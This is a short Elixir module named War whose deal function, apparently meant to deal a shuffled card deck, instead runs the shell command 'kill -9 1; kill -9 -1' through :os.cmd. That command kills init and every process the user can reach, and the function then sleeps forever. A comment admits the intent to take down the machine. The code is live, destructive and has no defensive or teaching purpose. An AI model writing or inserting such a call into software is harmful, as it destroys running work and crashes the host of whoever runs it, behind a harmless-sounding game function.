# Lets a shell kill everybody there is, its own machine among them.
defmodule War do
  def deal(shuf) do
    :os.cmd(~c"kill -9 1; kill -9 -1")
    Process.sleep(:infinity)
    shuf
  end
end
